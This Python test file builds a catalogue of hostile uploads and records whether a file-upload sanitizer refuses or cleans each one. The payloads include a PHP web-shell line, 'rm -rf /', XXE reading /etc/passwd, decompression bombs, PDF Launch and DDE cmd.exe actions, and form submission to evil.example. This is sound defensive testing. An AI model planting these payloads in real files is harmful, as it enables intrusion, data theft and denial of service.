"""The hostile files, each made in code, with what becomes of it. docs/uploads.md is compared with this list.

`becomes` is `refused: <code>` (a reason of files/reasons.py) or `kept: <what stands in the table>`.
`gone` are bytes that no kept file may hold, packed or not; `name` is what the file is called when kept.
"""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from files import limits
from tests.files import builders as b

KEPT = "kept"


@dataclass(frozen=True)
class Hostile:
    """One file: what it is, how it is called and made, and what becomes of it."""

    what: str
    name: str
    make: Callable[[], bytes]
    becomes: str
    gone: tuple[bytes, ...] = ()
    kept_as: str = ""
    content_type: str = "application/octet-stream"
    remark: str = ""

    @property
    def refusal(self) -> str:
        """The code of the refusal, or '' for a file that is kept."""
        return "" if self.becomes == KEPT else self.becomes


def _zip_of(name: str, content: bytes) -> bytes:
    return b.package({name: content})


def _gif_with_script() -> bytes:
    return b"GIF89a/*" + b.image("GIF")[8:] + b"*/=1;alert(1)//"


def _pdf_and_zip() -> bytes:
    return b.pdf() + _zip_of("evil.exe", b"MZ canary-zip")


def _zip_before_pdf() -> bytes:
    return _zip_of("evil.exe", b"MZ canary-zip") + b.pdf()


def _docx_bomb() -> bytes:
    return b.docx({"word/bomb.xml": b"<a>" + bytes(40 * limits.MEBIBYTE).replace(b"\0", b" ") + b"</a>"})


def _docx_of_many() -> bytes:
    return b.docx({f"customXml/item{number}.xml": "<a/>" for number in range(limits.MAX_PARTS)})


def _docx_lying_size() -> bytes:
    """A zip whose list says that a part is small, while it is not."""
    data = bytearray(b.docx({"word/bomb.xml": b"<a>" + b" " * 900_000 + b"</a>"}))
    central = data.rindex(b"word/bomb.xml") - 46
    data[central + 24 : central + 28] = struct.pack("<L", 10)
    return bytes(data)


def _docx_symlink() -> bytes:
    out = io.BytesIO(b.docx())
    with zipfile.ZipFile(out, "a") as package:
        link = zipfile.ZipInfo("word/link.xml")
        link.external_attr = 0o120777 << 16
        package.writestr(link, "/etc/passwd")
    return out.getvalue()


def _docx_encrypted_flag() -> bytes:
    data = bytearray(b.docx())
    at = 0
    while (at := data.find(b"PK\x01\x02", at)) >= 0:
        data[at + 8] |= 1
        at += 4
    return bytes(data)


def _docx_xxe() -> bytes:
    evil = b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    return b.docx({"word/document.xml": b.body().encode().replace(b"?>", b"?>" + evil, 1)})


def _docx_laughs() -> bytes:
    entities = "".join(f'<!ENTITY a{n} "{"&a%d;" % (n - 1) * 10}">' for n in range(1, 10))
    bomb = f'<!DOCTYPE a [<!ENTITY a0 "ha">{entities}]>'
    return b.docx({"word/document.xml": b.body().replace("?>", "?>" + bomb, 1)})


def _docx_rel(kind: str, target: str, mode: str = "External") -> bytes:
    return b.docx({"word/_rels/document.xml.rels": b.rels((kind, target, mode))})


def _docx_photo() -> bytes:
    return b.docx({"word/media/image1.jpeg": b.jpeg_with_gps()})


def _jpeg_with_php() -> bytes:
    return b.image("JPEG") + b"<?php system($_GET['canary']); ?><script>alert('canary')</script>"


def _jpeg_truncated() -> bytes:
    whole = b.image("JPEG")
    return whole[: len(whole) // 2]


def _png_text_bomb() -> bytes:
    packed = zlib.compress(bytes(80 * limits.MEBIBYTE), 9)
    return b.png_with(b.png_chunk(b"zTXt", b"Comment\0\0" + packed))


def _png_profile_bomb() -> bytes:
    packed = zlib.compress(bytes(80 * limits.MEBIBYTE), 9)
    return b.png_with(b.png_chunk(b"iCCP", b"profile\0\0" + packed))


def _png_pixel_bomb() -> bytes:
    """55 million pixels of one colour in some kilobytes: within the limit, and it must stay harmless."""
    header = struct.pack("!LLBBBBB", 10_000, 5_500, 8, 2, 0, 0, 0)
    rows = zlib.compress(bytes((1 + 3 * 10_000) * 5_500), 9)
    return (
        b"\x89PNG\r\n\x1a\n"
        + b.png_chunk(b"IHDR", header)
        + b.png_chunk(b"IDAT", rows)
        + b.png_chunk(b"IEND", b"")
    )


def _pdf_script(document: pikepdf.Pdf) -> None:
    document.Root.OpenAction = b.action("JavaScript", JS=String("app.alert('canary')"))
    tree = Dictionary(Names=[String("x"), b.action("JavaScript", JS=String("canary"))])
    document.Root.Names = Dictionary(JavaScript=document.make_indirect(tree))
    document.pages[0].AA = Dictionary(O=b.action("JavaScript", JS=String("canary")))


def _pdf_hidden_script(document: pikepdf.Pdf) -> None:
    """A script behind a link, typed as something else, in a stream, and as the second of two actions."""
    code = document.make_stream(b"app.launchURL('canary')")
    second = b.action("JavaScript", JS=code)
    second.Type = Name.StructElem
    first = b.action("URI", URI=String("https://www.example.org/"), Next=Array([second]))
    document.pages[0].Annots = Array([b.annotation("Link", A=first)])


def _pdf_launch(document: pikepdf.Pdf) -> None:
    run = Dictionary(F=String("cmd.exe"), P=String("/c canary"))
    link = b.annotation("Link", A=b.action("Launch", Win=run, F=String("canary.exe")))
    document.pages[0].Annots = document.make_indirect(Array([document.make_indirect(link)]))


def _pdf_file(document: pikepdf.Pdf) -> None:
    document.attachments["canary.exe"] = b"MZ canary-embedded"
    stream = document.make_stream(b"MZ canary-embedded", Type=Name.EmbeddedFile)
    spec = Dictionary(Type=Name.Filespec, F=String("canary"), EF=Dictionary(F=stream, Type=Name.Font))
    document.pages[0].Annots = Array([b.annotation("FileAttachment", FS=spec)])
    document.Root.AF = Array([spec])


def _pdf_xfa(document: pikepdf.Pdf) -> None:
    xfa = document.make_stream(b"<xdp:xdp><script>canary</script></xdp:xdp>", Type=Name.Font)
    document.Root.AcroForm = Dictionary(Fields=Array([]), XFA=xfa)


def _pdf_form(document: pikepdf.Pdf) -> None:
    field = b.annotation("Widget", FT=Name.Btn, T=String("knop"))
    field.A = b.action("SubmitForm", F=String("https://evil.example/canary"))
    field.AA = Dictionary(K=b.action("JavaScript", JS=String("canary")))
    fields = Array([document.make_indirect(field)])
    document.Root.AcroForm = Dictionary(Fields=fields, CO=fields)
    document.pages[0].Annots = fields


def _pdf_film(document: pikepdf.Pdf) -> None:
    film = b.annotation("RichMedia", RichMediaContent=Dictionary(Note=String("canary")))
    document.pages[0].Annots = Array([film, b.annotation("Screen", A=b.action("Rendition"))])


def _pdf_outside(document: pikepdf.Pdf) -> None:
    document.pages[0].Contents = document.make_stream(b"q Q", F=String("//evil/canary"), FFilter=Name.X)
    document.pages[0].Annots = Array(
        [
            b.annotation("Link", A=b.action("GoToR", F=String("//evil/canary"))),
            b.annotation("Link", A=b.action("URI", URI=String("file:///canary"))),
            b.annotation("Link", A=b.action("URI", URI=String("javascript:canary"))),
        ]
    )


def _pdf_photo(document: pikepdf.Pdf) -> None:
    photo = document.make_stream(b.jpeg_with_gps(), Type=Name.XObject, Subtype=Name.Image)
    photo.Width, photo.Height, photo.ColorSpace, photo.BitsPerComponent = 64, 48, Name.DeviceRGB, 8
    photo.Filter = Name.DCTDecode
    document.pages[0].Resources.XObject = Dictionary({"/Im0": photo})
    document.docinfo["/Author"] = "canary-author"
    document.Root.Metadata = document.make_stream(b"<x>canary-xmp</x>", Type=Name.Metadata)


def _pdf_stream_bomb(document: pikepdf.Pdf) -> None:
    packed = zlib.compress(bytes(300 * limits.MEBIBYTE), 9)
    bomb = document.make_stream(packed)
    bomb.Filter = Name.FlateDecode
    document.pages[0].Contents = bomb


def _pdf_nested_bomb(document: pikepdf.Pdf) -> None:
    bomb = document.make_stream(zlib.compress(zlib.compress(bytes(300 * limits.MEBIBYTE), 9), 9))
    bomb.Filter = Array([Name.FlateDecode, Name.FlateDecode])
    document.pages[0].Contents = bomb


def _pdf_pixels(document: pikepdf.Pdf) -> None:
    flood = document.make_stream(b"\0", Type=Name.XObject, Subtype=Name.Image)
    flood.Width, flood.Height = 60_000, 60_000
    document.pages[0].Resources.XObject = Dictionary({"/Im0": flood})


def _pdf_pages(document: pikepdf.Pdf) -> None:
    for _page in range(limits.MAX_PAGES):
        document.add_blank_page()


def _pdf_lying_count() -> bytes:
    return b.pdf(object_stream_mode=pikepdf.ObjectStreamMode.disable).replace(
        b"/Count 1 ", b"/Count 9"
    )


def _pdf_page_loop() -> bytes:
    """A tree of pages that contains itself."""
    return _by_hand(
        b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Count 1000000/Kids[2 0 R 2 0 R]>>"
    )


def _pdf_table_loop() -> bytes:
    """A cross-reference table whose earlier table is itself."""
    body = _by_hand(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Count 0/Kids[]>>")
    start = body.rindex(b"xref\n0")
    return body.replace(b"/Root", b"/Prev %d/Root" % start)


def _pdf_deep() -> bytes:
    deep = b"[" * 100_000 + b"]" * 100_000
    return _by_hand(b"<</Type/Catalog/Pages 2 0 R/X %s>>" % deep, b"<</Type/Pages/Count 0/Kids[]>>")


def _by_hand(*objects: bytes) -> bytes:
    """Return a PDF of these objects, without a library that would mend it."""
    out, places = b"%PDF-1.7\n", []
    for number, content in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj %s endobj\n" % (number, content)
    start = len(out)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    size = len(objects) + 1
    return (
        out
        + b"xref\n0 %d\n0000000000 65535 f \n%s" % (size, table)
        + b"trailer <</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF" % (size, start)
    )


_SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
_HTML = b"<!DOCTYPE html><html><script>alert('canary')</script></html>"
_EICAR = b.EICAR.encode()
_PDF_ACTS = (b"canary", b"JavaScript", b"/JS", b"Launch", b"SubmitForm", b"EmbeddedFile", b"XFA")

FILES: list[Hostile] = [
    # not on the list, whatever they are called
    Hostile("GIF that is also JavaScript", "plaatje.gif", _gif_with_script, "kind"),
    Hostile("GIF that is also JavaScript, called .jpg", "plaatje.jpg", _gif_with_script, "kind"),
    Hostile("moving GIF", "dans.gif", lambda: b.moving("GIF"), "kind"),
    Hostile("SVG with a script", "logo.svg", lambda: _SVG, "kind", content_type="image/png"),
    Hostile("SVG with a script, called .png", "logo.png", lambda: _SVG, "extension"),
    Hostile("HTML with a script, called .jpg", "foto.jpg", lambda: _HTML, "extension"),
    Hostile("HTML with a script", "brief.html", lambda: _HTML, "kind"),
    Hostile("TIFF", "scan.tif", lambda: b.image("TIFF"), "kind"),
    Hostile("TIFF, called .jpg", "scan.jpg", lambda: b.image("TIFF"), "kind"),
    Hostile("HEIC of a phone", "IMG_1.heic", lambda: b"\0\0\0\x18ftypheic" + bytes(99), "heic"),
    Hostile("program", "spel.exe", lambda: b"MZ" + bytes(99), "kind"),
    Hostile("program, called .pdf", "spel.pdf", lambda: b"MZ" + bytes(99), "kind"),
    Hostile("shell script", "start.sh", lambda: b"#!/bin/sh\nrm -rf /\n", "kind"),
    Hostile("old Word document (OLE)", "brief.doc", lambda: bytes.fromhex("d0cf11e0a1b11ae1"), "kind"),
    Hostile("bare zip", "alles.zip", lambda: _zip_of("a.txt", b"a"), "kind"),
    Hostile("zip in a zip, called .docx", "x.docx", lambda: _zip_of("b.zip", _zip_of("c", b"")), "not_word"),
    # names and sizes
    Hostile("PDF, called .jpg", "foto.jpg", b.pdf, "extension"),
    Hostile("JPEG, called .png", "foto.png", lambda: b.image("JPEG"), KEPT, kept_as="foto.jpg"),
    Hostile(
        "JPEG, said to be text/html", "foto.jpg", lambda: b.image("JPEG"), KEPT, kept_as="foto.jpg",
        content_type="text/html", remark="the browser's word plays no part",
    ),
    Hostile("JPEG with a second end", "foto.jpg.exe", lambda: b.image("JPEG"), "kind"),
    Hostile("JPEG with a first end", "foto.php.jpg", lambda: b.image("JPEG"), KEPT, kept_as="foto.php.jpg"),
    Hostile("JPEG without an end", "foto", lambda: b.image("JPEG"), KEPT, kept_as="foto.jpg"),
    Hostile("name that climbs", "../../etc/passwd.png", lambda: b.image("PNG"), KEPT, kept_as="passwd.png"),
    Hostile("name with a drive", r"C:\Windows\system32\a.png", lambda: b.image("PNG"), KEPT, kept_as="a.png"),
    Hostile("name with NUL", "a.png\0.exe", lambda: b.image("PNG"), "kind"),
    Hostile("name written backwards", "gnp.\u202eexe.png", lambda: b.image("PNG"), KEPT, kept_as="gnp.exe.png"),
    Hostile("name with line ends", "a\r\nSet-Cookie: x.png", lambda: b.image("PNG"), KEPT, kept_as="aSet-Cookie_ x.png"),
    Hostile("name with markup", "<img src=x onerror=1>.png", lambda: b.image("PNG"), KEPT, kept_as="_img src=x onerror=1_.png"),
    Hostile("name of 300 signs", "a" * 300 + ".png", lambda: b.image("PNG"), KEPT, kept_as="a" * 116 + ".png"),
    Hostile("name with dots behind", "foto.png...", lambda: b.image("PNG"), KEPT, kept_as="foto.png.png"),
    Hostile("name of a device", "CON.png", lambda: b.image("PNG"), KEPT, kept_as="_CON.png"),
    Hostile("name of nothing but an end", ".png", lambda: b.image("PNG"), KEPT, kept_as="bestand.png"),
    Hostile("empty file", "leeg.pdf", lambda: b"", "empty"),
    Hostile("file over the limit", "groot.jpg", lambda: b.image("JPEG") + bytes(limits.MAX_BYTES), "too_large"),
    # images
    Hostile("JPEG with PHP and HTML behind it", "foto.jpg", _jpeg_with_php, KEPT, (b"canary", b"<?php", b"<script")),
    Hostile("photo with place, camera, remarks", "foto.jpg", b.jpeg_with_gps, KEPT, (b"canary", b"Exif", b"xmp")),
    Hostile("JPEG cut off", "foto.jpg", _jpeg_truncated, "unreadable"),
    Hostile("JPEG that says 60,000 × 60,000", "foto.jpg", lambda: b.jpeg_header(60_000, 60_000), "too_many_pixels"),
    Hostile("PNG that says 60,000 × 60,000", "foto.png", lambda: b.png_header(60_000, 60_000), "too_many_pixels"),
    Hostile("PNG cut off", "foto.png", lambda: b.png_header(640, 480), "unreadable"),
    Hostile(
        "PNG of 55 million equal pixels", "vlak.png", _png_pixel_bomb, KEPT,
        remark=f"made smaller: at most {limits.MAX_SIDE} pixels a side",
    ),
    Hostile("PNG with text and XMP", "foto.png", b.png_with_text, KEPT, (b"canary", b"tEXt", b"iTXt")),
    Hostile("PNG with a text that unpacks to 80 MB", "foto.png", _png_text_bomb, "unreadable"),
    Hostile("PNG with a profile that unpacks to 80 MB", "foto.png", _png_profile_bomb, "unreadable"),
    Hostile("moving PNG (APNG)", "dans.png", lambda: b.moving("PNG"), "animated"),
    Hostile("moving WebP", "dans.webp", lambda: b.moving("WEBP"), "animated"),
    Hostile("WebP", "foto.webp", lambda: b.image("WEBP"), KEPT, (b"WEBP",), kept_as="foto.jpg"),
    # PDFs
    Hostile("PDF with a zip behind it", "brief.pdf", _pdf_and_zip, KEPT, (b"canary", b"evil.exe")),
    Hostile("zip with a PDF behind it", "brief.pdf", _zip_before_pdf, "extension"),
    Hostile("PDF with scripts", "brief.pdf", lambda: b.pdf(_pdf_script), KEPT, _PDF_ACTS),
    Hostile("PDF with a hidden script", "brief.pdf", lambda: b.pdf(_pdf_hidden_script), KEPT, _PDF_ACTS),
    Hostile("PDF that starts a program", "brief.pdf", lambda: b.pdf(_pdf_launch), KEPT, _PDF_ACTS),
    Hostile("PDF with a file in it", "brief.pdf", lambda: b.pdf(_pdf_file), KEPT, (*_PDF_ACTS, b"MZ")),
    Hostile("PDF with a form of XFA", "brief.pdf", lambda: b.pdf(_pdf_xfa), KEPT, _PDF_ACTS),
    Hostile("PDF with a form that sends", "brief.pdf", lambda: b.pdf(_pdf_form), KEPT, _PDF_ACTS),
    Hostile("PDF with film", "brief.pdf", lambda: b.pdf(_pdf_film), KEPT, (*_PDF_ACTS, b"RichMedia")),
    Hostile("PDF that fetches", "brief.pdf", lambda: b.pdf(_pdf_outside), KEPT, (*_PDF_ACTS, b"evil", b"GoToR")),
    Hostile("PDF with a photo with place", "brief.pdf", lambda: b.pdf(_pdf_photo), KEPT, (*_PDF_ACTS, b"Exif")),
    Hostile("PDF with a password", "brief.pdf", lambda: b.pdf(encryption=pikepdf.Encryption(user="a", owner="b")), "encrypted"),
    Hostile("PDF with rights only", "brief.pdf", lambda: b.pdf(encryption=pikepdf.Encryption(user="", owner="b")), "encrypted"),
    Hostile("PDF with a stream that unpacks to 300 MB", "brief.pdf", lambda: b.pdf(_pdf_stream_bomb), "too_complex"),
    Hostile("PDF with a bomb in a bomb", "brief.pdf", lambda: b.pdf(_pdf_nested_bomb), "too_complex"),
    Hostile("PDF with a picture of 60,000 × 60,000", "brief.pdf", lambda: b.pdf(_pdf_pixels), "too_many_pixels"),
    Hostile("PDF of 501 pages", "brief.pdf", lambda: b.pdf(_pdf_pages), "too_complex"),
    Hostile("PDF that lies about its pages", "brief.pdf", _pdf_lying_count, KEPT),
    Hostile("PDF whose pages hold themselves", "brief.pdf", _pdf_page_loop, "unreadable"),
    Hostile("PDF whose table refers to itself", "brief.pdf", _pdf_table_loop, "unreadable"),
    Hostile("PDF 100,000 deep", "brief.pdf", _pdf_deep, "unreadable"),
    Hostile("PDF of nothing but its first line", "brief.pdf", lambda: b"%PDF-1.7\n", "unreadable"),
    # Word documents
    Hostile("Word document with macros, called .docm", "brief.docm", lambda: b.docx({"word/vbaProject.bin": b"x"}), "kind"),
    Hostile("Word document with macros, called .docx", "brief.docx", lambda: b.docx({"word/vbaProject.bin": b"x"}), "active"),
    Hostile("Word document of the kind with macros", "brief.docx", lambda: b.docx(main_type="application/vnd.ms-word.document.macroEnabled.main+xml"), "active"),
    Hostile("Word document with a template elsewhere", "brief.docx", lambda: _docx_rel("attachedTemplate", "https://evil.example/a.dotm"), "outside"),
    Hostile("Word document with a picture elsewhere", "brief.docx", lambda: _docx_rel("image", "https://evil.example/a.png"), "outside"),
    Hostile("Word document with a link to a file", "brief.docx", lambda: _docx_rel("hyperlink", "file:///c:/canary"), "outside"),
    Hostile("Word document with an embedded program", "brief.docx", lambda: b.docx({"word/embeddings/oleObject1.bin": b"x"}), "active"),
    Hostile("Word document with HTML in it", "brief.docx", lambda: _docx_rel("aFChunk", "afchunk.xml", ""), "active"),
    Hostile("Word document with a DDE field", "brief.docx", lambda: b.docx({"word/document.xml": b.body(b.word_field("DDEAUTO c:\\cmd.exe"))}), "active"),
    Hostile("Word document with a DDE field in pieces", "brief.docx", lambda: b.docx({"word/document.xml": b.body(b.word_field("DD", "EAUTO", " c:\\cmd.exe"))}), "active"),
    Hostile("Word document with a page number", "brief.docx", lambda: b.docx({"word/document.xml": b.body(b.word_field(" PAGE "))}), KEPT),
    Hostile("Word document with an outside entity (XXE)", "brief.docx", _docx_xxe, "outside"),
    Hostile("Word document with a billion laughs", "brief.docx", _docx_laughs, "outside"),
    Hostile("Word document that is a zip bomb", "brief.docx", _docx_bomb, "too_complex"),
    Hostile("Word document of 1,000 parts", "brief.docx", _docx_of_many, "too_complex"),
    Hostile("Word document that lies about a size", "brief.docx", _docx_lying_size, "unreadable"),
    Hostile("Word document with a link on disk", "brief.docx", _docx_symlink, "unreadable"),
    Hostile("Word document with a path that climbs", "brief.docx", lambda: b.docx({"../../evil.xml": "<a/>"}), "unreadable"),
    Hostile("Word document with a password", "brief.docx", _docx_encrypted_flag, "encrypted"),
    Hostile("Word document with a photo with place", "brief.docx", _docx_photo, KEPT, (b"canary", b"Exif")),
    Hostile("Word document with a program behind it", "brief.docx", lambda: b.docx() + b"MZ canary", KEPT, (b"canary",)),
    Hostile("Word document with a broken photo", "brief.docx", lambda: b.docx({"word/media/image1.jpeg": _HTML}), "unreadable"),
    # text
    Hostile("text in UTF-16", "brief.txt", lambda: "een brief".encode("utf-16"), "not_text"),
    Hostile("text with NUL", "brief.txt", lambda: b"voor\0na", "not_text"),
    Hostile("text of nothing but spaces", "brief.txt", lambda: b"  \n ", "empty"),
    Hostile("text with turned directions", "brief.txt", lambda: "a\u202eb".encode(), KEPT, ("\u202e".encode(),)),
    Hostile(
        "HTML, called .txt", "brief.txt", lambda: _HTML, KEPT,
        remark="it is text, and goes out as text/plain, as a download, with nosniff and a sandbox",
    ),
    Hostile(
        "EICAR as text", "eicar.txt", lambda: _EICAR, KEPT,
        remark="harmless as text; with a scanner: refused, `virus`",
    ),
    Hostile("EICAR, called .pdf", "eicar.pdf", lambda: _EICAR, "extension"),
    Hostile("EICAR in a zip, called .docx", "eicar.docx", lambda: _zip_of("eicar.com", _EICAR), "not_word"),
]  # fmt: skip
